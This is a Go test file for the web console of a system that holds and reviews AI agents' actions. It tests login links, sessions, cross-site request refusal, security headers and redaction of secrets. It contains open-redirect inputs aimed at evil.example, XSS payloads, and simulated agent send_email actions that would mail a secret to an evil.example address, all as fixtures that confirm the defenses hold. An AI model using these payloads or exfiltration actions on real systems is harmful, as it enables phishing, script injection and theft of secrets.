package console

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"lazaret/client"
	"lazaret/internal/arbiter"
	"lazaret/internal/ceiling"
	"lazaret/internal/natsserver"
	"lazaret/pkg/beliefs"
	"lazaret/streams"
)

func TestALinkSignsInOnceAndLeadsNowhereElse(t *testing.T) {
	url := link(t, viewer)
	if b, err := os.ReadFile(LoginsFile(shared.data)); err != nil || strings.Contains(string(b),
		url[strings.Index(url, "=")+1:]) {
		t.Errorf("the file of logins holds a code: %v", err)
	}
	// A scanner of links uses HEAD. The link must stay valid after that.
	head, err := http.Head(url)
	if err != nil {
		t.Fatal(err)
	}
	head.Body.Close()
	if head.StatusCode == http.StatusOK || len(head.Cookies()) > 0 {
		t.Errorf("HEAD signs in: %d", head.StatusCode)
	}
	never := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	res, err := never.Get(url + "&next=https://evil.example&return_to=//evil.example")
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/" {
		t.Errorf("signing in: %d to %q", res.StatusCode, res.Header.Get("Location"))
	}
	k := res.Cookies()
	if len(k) != 1 || !k[0].HttpOnly || k[0].SameSite != http.SameSiteStrictMode || k[0].Path != "/" {
		t.Errorf("the cookie is %v", k)
	}
	for _, u := range []string{url, shared.c.URL() + "/login?code=guess", shared.c.URL() + "/login"} {
		if code, _ := get(t, http.DefaultClient, u); code != http.StatusUnauthorized {
			t.Errorf("%s: %d", u, code)
		}
	}
	for _, path := range []string{"//evil.example", "/\\evil.example", "/https://evil.example"} {
		res, err := never.Get(shared.c.URL() + path)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if l := res.Header.Get("Location"); strings.Contains(strings.TrimPrefix(l, "/"), "//") || strings.HasPrefix(l, "//") {
			t.Errorf("%s leads to %q", path, l)
		}
	}
	expired, err := NewLogin(shared.data, viewer, -time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if code, _ := get(t, http.DefaultClient, shared.c.LoginURL(expired)); code != http.StatusUnauthorized {
		t.Errorf("an expired link: %d", code)
	}
}

func TestALinkThatAnotherSiteOpensSignsInOnlyOnceThePersonConfirms(t *testing.T) {
	never := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	url := link(t, User{Name: "mallory", Role: RoleViewer})
	ask := func(site string) (*http.Response, string) {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, url, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Sec-Fetch-Site", site)
		res, err := never.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, err := io.ReadAll(res.Body)
		if err != nil {
			t.Fatal(err)
		}
		return res, string(b)
	}
	for _, site := range []string{"cross-site", "same-site"} {
		res, body := ask(site)
		if res.StatusCode != http.StatusOK || len(res.Cookies()) > 0 || !strings.Contains(body, "mallory") {
			t.Errorf("%s: %d, cookies %v", site, res.StatusCode, res.Cookies())
		}
	}
	if res, _ := ask("same-origin"); res.StatusCode != http.StatusSeeOther || len(res.Cookies()) != 1 {
		t.Errorf("the confirmed link: %d", res.StatusCode)
	}
	if res, body := ask("cross-site"); res.StatusCode != http.StatusUnauthorized || strings.Contains(body, "mallory") {
		t.Errorf("a used link: %d", res.StatusCode)
	}
}

func TestAViewerOfOneProjectSeesNoFiguresOfAll(t *testing.T) {
	attack(t)
	_, all := get(t, visitor(t, viewer), "/")
	_, one := get(t, visitor(t, User{Name: "olga", Role: RoleViewer, Projects: []string{"elsewhere"}}), "/")
	for _, s := range []string{"<dt>Observations</dt>", "<dt>Held</dt>", ">Published</th>"} {
		if !strings.Contains(all, s) || strings.Contains(one, s) {
			t.Errorf("%s: for all %v, for one project %v", s, strings.Contains(all, s), strings.Contains(one, s))
		}
	}
}

func TestNobodySeesAPageWithoutASession(t *testing.T) {
	project, hold := attack(t)
	for _, path := range []string{"/", "/holds", "/holds/" + project + "/" + hold, "/alerts", "/sessions",
		"/sessions/" + project + "/s1", "/beliefs", "/log",
		"/log/proof?project=" + project + "&entry=1", "/passkeys", "/help", "/events"} {
		if code, body := get(t, http.DefaultClient, path); code != http.StatusUnauthorized ||
			strings.Contains(body, project) {
			t.Errorf("%s: %d", path, code)
		}
	}
	for _, path := range []string{"/holds/" + project + "/" + hold, "/passkeys"} {
		if code := post(t, http.DefaultClient, path, shared.c.URL(), "same-origin"); code != http.StatusUnauthorized {
			t.Errorf("POST %s: %d", path, code)
		}
	}
}

func post(t *testing.T, c *http.Client, path, origin, site string) int {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), "POST", shared.c.URL()+path, strings.NewReader("{}"))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	if origin != "" {
		req.Header.Set("Origin", origin)
	}
	if site != "" {
		req.Header.Set("Sec-Fetch-Site", site)
	}
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	return res.StatusCode
}

func TestARequestOfAnotherSiteIsRefused(t *testing.T) {
	project, hold := attack(t)
	c := visitor(t, User{Name: "anna", Role: RoleApprover})
	path := "/holds/" + project + "/" + hold
	for _, x := range []struct{ origin, site string }{
		{"https://evil.example", "cross-site"}, {"https://evil.example", ""}, {"null", ""}, {"", ""},
		{shared.c.URL(), "cross-site"},
		{shared.c.URL(), "same-site"}, {"http://localhost:1", "same-origin"}, {"http://evil.localhost:" + shared.c.port, ""},
	} {
		for _, p := range []string{path, "/passkeys", "/logout"} {
			if code := post(t, c, p, x.origin, x.site); code != http.StatusForbidden {
				t.Errorf("POST %s from %q, %q: %d", p, x.origin, x.site, code)
			}
		}
	}
	if code := post(t, c, path, shared.c.URL(), "same-origin"); code == http.StatusForbidden {
		t.Errorf("the page's own request: %d", code)
	}
	// A DNS name rebound to this address.
	req, err := http.NewRequestWithContext(t.Context(), "GET", shared.c.URL()+"/", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = "evil.example:" + shared.c.port
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("another host: %d", res.StatusCode)
	}
}

func TestEveryAnswerForbidsFramesAndForeignCode(t *testing.T) {
	c := visitor(t, viewer)
	for _, path := range []string{"/", "/holds", "/nowhere", "/static/console.css", "/login"} {
		res, err := c.Get(shared.c.URL() + path)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		csp := res.Header.Get("Content-Security-Policy")
		for _, want := range []string{"default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'",
			"form-action 'self'", "script-src 'self';"} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: no %s in %q", path, want, csp)
			}
		}
		if strings.Contains(csp, "unsafe") || res.Header.Get("X-Frame-Options") != "DENY" ||
			res.Header.Get("Referrer-Policy") != "same-origin" {
			t.Errorf("%s: %v", path, res.Header)
		}
	}
}

func TestAUserOfOneProjectSeesNoOther(t *testing.T) {
	project, hold := attack(t)
	c := visitor(t, User{Name: "carl", Role: RoleApprover, Projects: []string{"elsewhere"}})
	for _, path := range []string{"/", "/holds", "/alerts", "/sessions", "/beliefs", "/log"} {
		if code, body := get(t, c, path); code != 200 || strings.Contains(body, project) {
			t.Errorf("%s: %d, or it names %s", path, code, project)
		}
	}
	for _, path := range []string{"/holds/" + project + "/" + hold, "/sessions/" + project + "/s1",
		"/beliefs?project=" + project,
		"/log/proof?project=" + project + "&entry=replayed/e1"} {
		if code, _ := get(t, c, path); code != http.StatusNotFound {
			t.Errorf("%s: %d", path, code)
		}
	}
	if code := post(t, c, "/holds/"+project+"/"+hold, shared.c.URL(), "same-origin"); code != http.StatusForbidden {
		t.Errorf("a decision for another project: %d", code)
	}
	if code := post(t, visitor(t, viewer), "/holds/"+project+"/"+hold, shared.c.URL(),
		"same-origin"); code != http.StatusForbidden {
		t.Errorf("a decision of a viewer: %d", code)
	}
}

func TestASessionEnds(t *testing.T) {
	l := newLogins()
	now := time.Now()
	l.now = func() time.Time { return now }
	k := l.begin(&viewer)
	now = now.Add(SessionIdle - time.Second)
	if l.find(k, false) == nil {
		t.Error("it ends before it is idle for long")
	}
	now = now.Add(2 * time.Second)
	if l.find(k, true) != nil {
		t.Error("a feed keeps it alive")
	}
	k = l.begin(&viewer)
	for range 20 {
		now = now.Add(SessionIdle / 2)
		l.find(k, true)
	}
	if l.find(k, true) != nil {
		t.Errorf("it outlives %v", SessionExpires)
	}
	k = l.begin(&viewer)
	if l.end(k); l.find(k, true) != nil || l.find("", true) != nil {
		t.Error("it outlives its end")
	}
	for range maxSessionsOf + 5 {
		l.begin(&viewer)
	}
	if len(l.by) > maxSessionsOf {
		t.Errorf("%d sessions", len(l.by))
	}
}

// keeper returns a client for a new agent, named keeper, in a project.
func keeper(t *testing.T, project string) *client.Client {
	t.Helper()
	return agentOf(t, project, "keeper")
}

func agentOf(t *testing.T, project, name string) *client.Client {
	t.Helper()
	creds, err := shared.p.Server.Minter().Agent(natsserver.Agent{Project: project, Name: name,
		Origins: beliefs.Origins()})
	if err != nil {
		t.Fatal(err)
	}
	nc, err := nats.Connect("", nats.InProcessServer(shared.p.Server), nats.UserCredentialBytes(creds),
		nats.CustomInboxPrefix(natsserver.AgentInbox(project, name)))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(nc.Close)
	cl, err := client.New(nc, project, name)
	if err != nil {
		t.Fatal(err)
	}
	return cl
}

func TestAViewerSeesNoSecret(t *testing.T) {
	const project, secret = "hush", "the vault code of the Zurich office is 7741 and nobody else knows"
	cl := keeper(t, project)
	m := &streams.Memory{Head: streams.Head{Session: "s"}, Key: "vault", Content: secret, Sensitivity: beliefs.Secret}
	if _, err := cl.Remember(t.Context(), beliefs.OriginWeb, m); err != nil {
		t.Fatal(err)
	}
	act := &streams.Action{Head: streams.Head{Session: "s"}, Tool: "send_email",
		Args: []byte(`{"to":"eve@evil.example","body":"` + secret + `"}`)}
	rep, err := cl.Decide(t.Context(), act)
	if err != nil || rep.Entry == nil || rep.Entry.Hold == nil {
		t.Fatalf("%+v, %v", rep, err)
	}
	shared.c.watch()
	await(t, "the hold", func() bool {
		return len(shared.c.index.openHolds(func(p string) bool { return p == project })) > 0
	})
	paths := []string{"/", "/holds", "/holds/" + project + "/" + rep.Entry.Hold.ID, "/alerts",
		"/sessions/" + project + "/s", "/beliefs?project=" + project}
	low, high := visitor(t, viewer), visitor(t, User{Name: "sam", Role: RoleViewer, Ceiling: beliefs.Secret})
	for _, path := range paths {
		if code, body := get(t, low, path); code != 200 || strings.Contains(body, "7741") {
			t.Errorf("%s: %d, or it shows the secret", path, code)
		}
	}
	if _, body := get(t, high, paths[2]); !strings.Contains(body, "7741") {
		t.Error("who may see secrets does not")
	}
}

func TestForeignTextIsShownAndNeverRun(t *testing.T) {
	p := shared.c.newPage(&viewer)
	p.Title, p.Data = `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`
	w := httptest.NewRecorder()
	shared.c.render(w, 200, "message", p)
	if body := w.Body.String(); strings.Contains(body, "<script>alert") || strings.Contains(body, "<img") {
		t.Errorf("%s", body)
	}
}

// An agent marks an action as secret. A user who may not read secret texts must not see the action's arguments, and
// must not be able to decide on the action. The words are in no memory, so only the mark of the action can prevent
// that.
func TestAnActionThatIsMarkedSecretIsShownAndFoundByNobodyBelow(t *testing.T) {
	const project, secret = "marked", "quince-4471@evil.example"
	act := &streams.Action{Head: streams.Head{Session: "s"}, Tool: "send_email", Args: []byte(`{"to":"` + secret + `"}`),
		Sensitivity: beliefs.Secret}
	rep, err := keeper(t, project).Decide(t.Context(), act)
	if err != nil || rep.Entry == nil || rep.Entry.Hold == nil {
		t.Fatalf("%+v, %v", rep, err)
	}
	shared.c.watch()
	await(t, "the hold", func() bool {
		return len(shared.c.index.openHolds(func(p string) bool { return p == project })) > 0
	})
	hold := "/holds/" + project + "/" + rep.Entry.Hold.ID
	low, high := visitor(t, User{Name: "anna", Role: RoleApprover, Ceiling: beliefs.Internal}), visitor(t,
		User{Name: "sam", Role: RoleViewer, Ceiling: beliefs.Secret})
	for _, path := range []string{"/", "/holds?project=" + project, hold, "/alerts?project=" + project,
		"/sessions/" + project + "/s"} {
		if code, body := get(t, low, path); code != 200 || strings.Contains(body, "4471") {
			t.Errorf("%s: %d, or it shows the secret", path, code)
		}
	}
	if _, body := get(t, low, hold); strings.Contains(body, `id="sign"`) ||
		strings.Contains(body, rep.Entry.Digest[len("sha256:"):]) {
		t.Error("who may not see the action may sign for it, or guess it by its digest")
	}
	if code := post(t, low, hold, shared.c.URL(), "same-origin"); code != http.StatusForbidden {
		t.Errorf("a decision on an action that the user may not see: %d", code)
	}
	if _, body := get(t, high, hold); !strings.Contains(body, "4471") {
		t.Error("who may see secrets does not")
	}
}

// The results of a search must not show whether a text that the user may not read contains the searched words.
func TestASearchSaysNothingOfWhatTheUserMayNotSee(t *testing.T) {
	const project, message = "sought", "the arguments have the vault code of the Zurich office is 7741"
	x := newIndex()
	x.labels.Scan(ceiling.Entry{Project: project, Seq: 1, Ingest: true,
		Body: []byte(`{"id":"m1","belief":{"id":"b1","sensitivity":"secret"},"content":"the vault code of the Zurich office is 7741"}`)})
	verdict := streams.VerdictEntry{Proposal: 2, Tool: "send_email",
		Reasons: []streams.Reason{{Rule: "r", Verdict: streams.Hold, Text: message}}}
	x.held[2] = &holdRow{Hold: arbiter.Hold{ID: "h1", Project: project, State: streams.HoldOpen, Verdict: verdict}}
	x.alerts = append(x.alerts, alertRow{Alert: streams.Alert{Project: project, Rule: "r", Severity: "high",
		Message: message, Time: time.Now()}, At: 3})
	x.next, x.ready = 4, true
	c := &Console{index: x, journal: newJournal(func(context.Context, string, []byte) error { return nil },
		slog.Default())}
	for most, want := range map[beliefs.Sensitivity]int{beliefs.Internal: 0, beliefs.Secret: 1} {
		p := &page{User: &User{Name: "u", Role: RoleViewer, Ceiling: most}, c: c}
		if _, err := c.holdsPage(httptest.NewRequest("GET", "/holds?q=7741", nil), p); err != nil ||
			p.Data.(*holdsView).Total != want {
			t.Errorf("%v: holds: %+v, %v", most, p.Data, err)
		}
		for where, want := range map[string]int{`message contains "7741"`: want, `not (message contains "7741")`: 1 - want} {
			if _, err := c.alertsPage(httptest.NewRequest("GET", "/alerts?project="+project+"&where="+url.QueryEscape(where),
				nil),
				p); err != nil || p.Data.(*alertsView).Total != want {
				t.Errorf("%v: alerts where %s: %+v, %v", most, where, p.Data, err)
			}
		}
	}
}

// The index knows the sensitivity of a text only after it has read the text's entry. Before that, a user who may not
// read secret texts must not see the text.
func TestATextThatTheIndexHasNotComeToIsNotShown(t *testing.T) {
	x := newIndex()
	x.next = 10
	c := &Console{index: x, journal: newJournal(func(context.Context, string, []byte) error { return nil },
		slog.Default())}
	low, high := &page{User: &viewer, c: c, Indexing: true}, &page{User: &User{Ceiling: beliefs.Secret}, c: c,
		Indexing: true}
	if s := low.Say("p", "a text", 10); s == "a text" {
		t.Error("shown, and the entry that it is from was not read")
	}
	if s := low.Say("p", "a text"); s == "a text" {
		t.Error("shown, and the ledger was not read")
	}
	if s := low.Say("p", "a text", 9); s != "a text" {
		t.Errorf("%s: what stands before its entry was read", s)
	}
	if s := high.Say("p", "a text", 10); s != "a text" {
		t.Errorf("%s: the user may see all", s)
	}
}

func TestALoginLinkLeadsToTheConsoleThatWasStartedLast(t *testing.T) {
	data := t.TempDir()
	if got, want := LastURL(data), "http://localhost:4281"; got != want {
		t.Errorf("without a console: %s, want %s", got, want)
	}
	for _, origin := range []string{"", "https://lazaret.example.org/"} {
		nc, err := shared.p.Server.Connect(natsserver.RoleOperator)
		if err != nil {
			t.Fatal(err)
		}
		c, err := Start(Config{Data: data, Listen: "127.0.0.1:0", Conn: nc, Origin: origin})
		if err != nil {
			t.Fatal(err)
		}
		c.Close()
		if got := LastURL(data); got != c.URL() {
			t.Errorf("%s, want %s", got, c.URL())
		}
	}
}
